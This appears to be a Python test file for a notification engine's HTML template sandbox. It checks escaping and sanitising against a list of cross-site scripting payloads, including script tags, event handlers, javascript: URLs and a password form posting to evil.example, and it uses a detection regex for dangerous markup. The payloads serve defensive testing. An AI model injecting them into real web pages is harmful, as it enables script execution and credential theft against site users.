"""HTML in data: escaped, or sanitised where a template shows it as HTML."""

import re

import pytest
from tests.unit.rendering.test_sandbox import rendered

from notification_engine.rendering.sandbox import Refused

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<object data=x></object><embed src=x>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<div onmouseover='alert(1)'>x</div>",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
]
DANGER = re.compile(
    r"<(script|iframe|form|input|object|embed|base|meta|style|svg|math|textarea)|<[^>]*\s(on\w+|style)=|"
    r"(?:href|src)=(?![\"']?(?:https?:|mailto:|x))",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_in_a_value_is_escaped(attack: str) -> None:
    shown = rendered("<p>{{ x }}</p>", "html", x=attack)
    assert shown.count("<") == 2


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "source",
    [
        "{{ x | safe }}",
        "{{ ('' ~ x) | safe }}",
        "{% set y = x | safe %}{{ y }}",
        "{{ x | trim | safe }}",
        "{{ x|safe|safe }}",
    ],
)
def test_html_that_a_template_shows_as_html_is_sanitised(attack: str, source: str) -> None:
    assert not DANGER.search(rendered(source, "html", x=attack))


def test_harmless_html_is_kept() -> None:
    html = '<p>Hello <b>you</b> <a href="https://example.org">there</a></p><ul><li>1</li></ul>'
    shown = rendered("{{ x | safe }}", "html", x=html)
    assert shown.replace(' rel="noopener noreferrer"', "") == html


def test_what_the_template_itself_wrote_is_left_alone() -> None:
    source = "{% macro row(v) %}<td style='color:red'>{{ v }}</td>{% endmacro %}{{ row(x) | safe }}"
    assert rendered(source, "html", x="<b>") == "<td style='color:red'>&lt;b&gt;</td>"


def test_a_text_is_no_html() -> None:
    assert rendered("{{ x | safe }}", "text", x="1 < 2 & <b>") == "1 < 2 & <b>"
    assert rendered("{{ x | safe }}{{ nothing | safe }}", "html", x=None) in {"", "none", "None"}


@pytest.mark.parametrize(
    "source",
    [
        "{% autoescape false %}{{ x }}{% endautoescape %}",
        "{%- autoescape 'none' -%}{{ x }}{% endautoescape %}",
        "{%autoescape none%}{{ x }}{%endautoescape%}",
        "{%\nautoescape false %}{{ x }}{% endautoescape %}",
    ],
)
def test_escaping_cannot_be_turned_off(source: str) -> None:
    with pytest.raises(Refused):
        rendered(source, "html", x="<b>")
